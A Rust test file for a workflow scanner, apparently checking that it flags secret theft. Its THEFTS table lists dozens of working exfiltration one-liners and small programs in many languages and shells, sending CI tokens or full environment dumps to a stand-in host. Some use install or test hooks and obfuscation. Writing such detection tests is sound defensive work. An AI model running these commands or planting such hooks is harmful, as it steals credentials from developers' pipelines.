//! Ways to say "send this there" in other languages, and in files that tools run by themselves.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

mod ways;

use portcullis_scan::report::Verdict;
use ways::{Way, at_most_exposed, found};

/// Each sends both secrets, or the one that is named, to the place that is named.
const THEFTS: &[Way] = &[
    Way {
        name: "npx tsx",
        shell: "bash",
        script: r##"cat > x.ts <<'E'
fetch('https://collector.example/in',{method:'POST',body:process.env.A!+process.env.B})
E
npx tsx x.ts"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "ruby",
        shell: "bash",
        script: r##"ruby -rnet/http -e 'Net::HTTP.post(URI("https://collector.example/in"), ENV["A"]+ENV["B"])'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "ruby heredoc",
        shell: "bash",
        script: r##"ruby <<'E'
require 'net/http'
uri = URI('https://collector.example/in')
Net::HTTP.post_form(uri, 'a'=>ENV['A'],'b'=>ENV.fetch('B'))
E"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "ruby socket",
        shell: "bash",
        script: r##"ruby -rsocket -e 's=TCPSocket.new("collector.example",443); s.puts ENV["A"]+ENV["B"]'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "ruby system",
        shell: "bash",
        script: r##"ruby -e 'system("curl -d #{ENV["A"]}#{ENV["B"]} https://collector.example/in")'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "ruby backtick",
        shell: "bash",
        script: r##"ruby -e '`curl -d "$A$B" https://collector.example/in`'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "ruby env dump",
        shell: "bash",
        script: r##"ruby -rnet/http -rjson -e 'Net::HTTP.post(URI("https://collector.example/in"), ENV.to_h.to_json)'"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "perl",
        shell: "bash",
        script: r##"perl -MHTTP::Tiny -e 'HTTP::Tiny->new->post_form("https://collector.example/in",{a=>$ENV{A},b=>$ENV{B}})'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "perl lwp",
        shell: "bash",
        script: r##"perl -MLWP::UserAgent -e 'LWP::UserAgent->new->post("https://collector.example/in",Content=>$ENV{A}.$ENV{B})'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "perl socket",
        shell: "bash",
        script: r##"perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new("collector.example:443"); print $s $ENV{A}.$ENV{B}'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "perl system",
        shell: "bash",
        script: r##"perl -e 'system("curl","-d",$ENV{A}.$ENV{B},"https://collector.example/in")'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "perl backtick",
        shell: "bash",
        script: r##"perl -e '`curl -d "\$A\$B" https://collector.example/in`'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "perl -pe log",
        shell: "bash",
        script: r##"printenv A | perl -pe 's/(.)/$1 /g'"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "perl reverse log",
        shell: "bash",
        script: r##"printenv A | perl -ne 'print scalar reverse'"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "perl print rev",
        shell: "bash",
        script: r##"perl -e 'print scalar reverse $ENV{A}'"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Suspicious,
    },
    Way {
        name: "shell perl",
        shell: "perl {0}",
        script: r##"use HTTP::Tiny;
HTTP::Tiny->new->post_form('https://collector.example/in',{a=>$ENV{A},b=>$ENV{B}});"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "shell ruby",
        shell: "ruby {0}",
        script: r##"require 'net/http'
Net::HTTP.post(URI('https://collector.example/in'), ENV['A']+ENV['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "shell node",
        shell: "node {0}",
        script: r##"fetch('https://collector.example/in',{method:'POST',body:process.env.A+process.env.B})"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "shell bash -c",
        shell: "bash -c {0}",
        script: r##"curl -d "$A$B" https://collector.example/in"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "shell bash pipe",
        shell: "bash -eo pipefail {0}",
        script: r##"curl -d "$A$B" https://collector.example/in"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "shell env bash",
        shell: "/usr/bin/env bash {0}",
        script: r##"curl -d "$A$B" https://collector.example/in"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "shell sudo bash",
        shell: "sudo -E bash {0}",
        script: r##"curl -d "$A$B" https://collector.example/in"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "shell cmd",
        shell: "cmd",
        script: r##"curl -d "%A%%B%" https://collector.example/in"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "shell cmd set",
        shell: "cmd",
        script: r##"set > e.txt
curl -T e.txt https://collector.example/in"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "shell cmd pipe",
        shell: "cmd",
        script: r##"set | curl -d @- https://collector.example/in"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "shell cmd for",
        shell: "cmd",
        script: r##"for /f %%i in ('echo %A%%B%') do curl -d "%%i" https://collector.example/in"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "shell cmd certutil",
        shell: "cmd",
        script: r##"echo %A%%B%> s.txt
certutil -encode s.txt o.txt
curl -T o.txt https://collector.example/in"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "shell cmd ps",
        shell: "cmd",
        script: r##"powershell -Command "iwr https://collector.example/in -Method Post -Body $env:A$env:B""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "shell cmd var",
        shell: "cmd",
        script: r##"set U=https://collector.example/in
curl -d "%A%%B%" %U%"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "shell cmd caret",
        shell: "cmd",
        script: r##"c^u^rl -d "%A%%B%" https://collector.example/in"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "ps cmd /c",
        shell: "pwsh",
        script: r##"cmd /c "curl -d %A%%B% https://collector.example/in""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "php",
        shell: "bash",
        script: r##"php -r 'file_get_contents("https://collector.example/in?".getenv("A").getenv("B"));'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "php curl",
        shell: "bash",
        script: r##"php -r '$c=curl_init("https://collector.example/in"); curl_setopt($c,CURLOPT_POSTFIELDS,$_ENV["A"].getenv("B")); curl_exec($c);'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "php exec",
        shell: "bash",
        script: r##"php -r 'exec("curl -d ".getenv("A").getenv("B")." https://collector.example/in");'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "lua",
        shell: "bash",
        script: r##"lua -e 'require("socket.http").request("https://collector.example/in", os.getenv("A")..os.getenv("B"))'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "lua exec",
        shell: "bash",
        script: r##"lua -e 'os.execute("curl -d "..os.getenv("A")..os.getenv("B").." https://collector.example/in")'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "go run",
        shell: "bash",
        script: r##"cat > m.go <<'E'
package main
import ("net/http";"os";"strings")
func main(){ http.Post("https://collector.example/in","text/plain",strings.NewReader(os.Getenv("A")+os.Getenv("B"))) }
E
go run m.go"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "go dial",
        shell: "bash",
        script: r##"cat > m.go <<'E'
package main
import ("net";"os";"fmt")
func main(){ c,_:=net.Dial("tcp","collector.example:443"); fmt.Fprint(c,os.Getenv("A")+os.Getenv("B")) }
E
go run m.go"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "go environ",
        shell: "bash",
        script: r##"cat > m.go <<'E'
package main
import ("net/http";"os";"strings")
func main(){ http.Post("https://collector.example/in","text/plain",strings.NewReader(strings.Join(os.Environ(),"\n"))) }
E
go build -o x m.go && ./x"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "rustc",
        shell: "bash",
        script: r##"cat > m.rs <<'E'
use std::io::Write;
fn main(){ let mut s=std::net::TcpStream::connect("collector.example:443").unwrap(); s.write_all(std::env::var("A").unwrap().as_bytes()).unwrap(); s.write_all(std::env::var("B").unwrap().as_bytes()).unwrap(); }
E
rustc m.rs && ./m"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "c prog",
        shell: "bash",
        script: r##"cat > m.c <<'E'
#include <stdlib.h>
int main(){ return system("curl -d \"$A$B\" https://collector.example/in"); }
E
gcc m.c -o m && ./m"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "java",
        shell: "bash",
        script: r##"cat > M.java <<'E'
import java.net.*;
class M{public static void main(String[] a)throws Exception{ java.net.http.HttpClient.newHttpClient().send(java.net.http.HttpRequest.newBuilder(URI.create("https://collector.example/in")).POST(java.net.http.HttpRequest.BodyPublishers.ofString(System.getenv("A")+System.getenv("B"))).build(),java.net.http.HttpResponse.BodyHandlers.discarding()); }}
E
java M.java"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "makefile",
        shell: "bash",
        script: r##"printf 'all:\n\tcurl -d "$$A$$B" https://collector.example/in\n' > Makefile
make"##,
        later: "",
        secrets: ways::BOTH,
        place: "",
        verdict: Verdict::Suspicious,
    },
    Way {
        name: "npm scripts",
        shell: "bash",
        script: r##"cat > package.json <<'E'
{"scripts":{"postinstall":"curl -d \"$A$B\" https://collector.example/in"}}
E
npm install"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "npx -c",
        shell: "bash",
        script: r##"npx -c 'curl -d "$A$B" https://collector.example/in'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "setup.py",
        shell: "bash",
        script: r##"cat > setup.py <<'E'
import os,requests
requests.post('https://collector.example/in',data=os.environ['A']+os.environ['B'])
E
pip install ."##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Suspicious,
    },
    Way {
        name: "conftest",
        shell: "bash",
        script: r##"cat > conftest.py <<'E'
import os,requests
requests.post('https://collector.example/in',data=os.environ['A']+os.environ['B'])
E
pytest"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Suspicious,
    },
    Way {
        name: "awk system",
        shell: "bash",
        script: r##"awk 'BEGIN{system("curl -d " ENVIRON["A"] ENVIRON["B"] " https://collector.example/in")}'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "awk pipe",
        shell: "bash",
        script: r##"awk 'BEGIN{print ENVIRON["A"] ENVIRON["B"] | "curl -d @- https://collector.example/in"}'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "awk getline",
        shell: "bash",
        script: r##"awk 'BEGIN{c="curl -d " ENVIRON["A"] ENVIRON["B"] " https://collector.example/in"; c | getline}'"##,
        later: "",
        secrets: ways::BOTH,
        place: "",
        verdict: Verdict::Suspicious,
    },
    Way {
        name: "awk inet",
        shell: "bash",
        script: r##"gawk 'BEGIN{s="/inet/tcp/0/collector.example/443"; print ENVIRON["A"] ENVIRON["B"] |& s}'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "gawk stdin inet",
        shell: "bash",
        script: r##"echo "$A$B" | gawk '{print $0 |& "/inet/tcp/0/collector.example/443"}'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "jq env",
        shell: "bash",
        script: r##"jq -n env | curl -d @- https://collector.example/in"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "jq $ENV",
        shell: "bash",
        script: r##"jq -n '$ENV' | curl -d @- https://collector.example/in"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "jq env.A",
        shell: "bash",
        script: r##"jq -n '{a:env.A,b:env.B}' | curl -d @- https://collector.example/in"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "jq --arg",
        shell: "bash",
        script: r##"jq -n --arg a "$A" --arg b "$B" '{a:$a,b:$b}' | curl -d @- https://collector.example/in"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "env tee",
        shell: "bash",
        script: r##"env | tee x | curl -d @- https://collector.example/in"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "env grep",
        shell: "bash",
        script: r##"env | grep -E '^(A|B)=' | curl -d @- https://collector.example/in"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "env grep one",
        shell: "bash",
        script: r##"env | grep '^A=' | curl -d @- https://collector.example/in"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "printenv sed",
        shell: "bash",
        script: r##"printenv A B | sed 's/^/x=/' | curl -d @- https://collector.example/in"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "set grep",
        shell: "bash",
        script: r##"set | grep -a TOKEN | curl -d @- https://collector.example/in"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "export -p",
        shell: "bash",
        script: r##"export -p | curl -d @- https://collector.example/in"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "declare -x",
        shell: "bash",
        script: r##"declare -x | curl -d @- https://collector.example/in"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "compgen",
        shell: "bash",
        script: r##"for v in $(compgen -e); do echo "$v=${!v}"; done | curl -d @- https://collector.example/in"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "proc environ",
        shell: "bash",
        script: r##"cat /proc/self/environ | curl --data-binary @- https://collector.example/in"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "proc $$ environ",
        shell: "bash",
        script: r##"tr '\0' '\n' < /proc/$$/environ | curl -d @- https://collector.example/in"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "strings environ",
        shell: "bash",
        script: r##"strings /proc/*/environ | curl -d @- https://collector.example/in"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "ps eww",
        shell: "bash",
        script: r##"ps auxeww | curl -d @- https://collector.example/in"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "php a file in a stream context",
        shell: "bash",
        script: r##"sed -i "s|^KEY=.*|KEY=$A|" .env
php -r '$b = http_build_query(["e" => file_get_contents(".env"), "t" => getenv("B")]);
@file_get_contents("https://collector.example/in", false, stream_context_create(["http" => ["method" => "POST", "content" => $b]]));'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "ruby a file",
        shell: "bash",
        script: r##"echo "$A $B" > /tmp/x
ruby -rnet/http -e 'Net::HTTP.post(URI("https://collector.example/in"), File.read("/tmp/x"))'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
];

/// What people do with their own secrets in the same words.
const NEAR_MISSES: &[(&str, &str, &str)] = &[
    ("ok ruby", "bash", r##"ruby -e 'File.write("conf", ENV["A"])'"##),
    (
        "ok go build",
        "bash",
        r##"cat > main.go <<'E'
package main
import "fmt"
func main(){ fmt.Println("hi") }
E
go run main.go"##,
    ),
    (
        "ok make",
        "bash",
        r##"printf 'all:\n\tcc -o x x.c\n' > Makefile
make"##,
    ),
    (
        "ok npm scripts",
        "bash",
        r##"cat > package.json <<'E'
{"scripts":{"build":"tsc"}}
E
npm run build"##,
    ),
    (
        "ok cmd",
        "cmd",
        r##"set PATH=%PATH%;C:\x
dotnet nuget push x.nupkg -k %B% -s https://api.nuget.org/v3/index.json"##,
    ),
    ("ok awk", "bash", r##"awk -F, '{print $2}' data.csv | sort | uniq -c"##),
    ("ok php", "bash", r##"php -r 'echo PHP_VERSION;'"##),
];

#[test]
fn thefts_are_found() {
    for way in THEFTS {
        found(way);
    }
}

#[test]
fn ordinary_work_is_not_accused() {
    for (name, shell, script) in NEAR_MISSES {
        at_most_exposed(name, shell, script);
    }
}
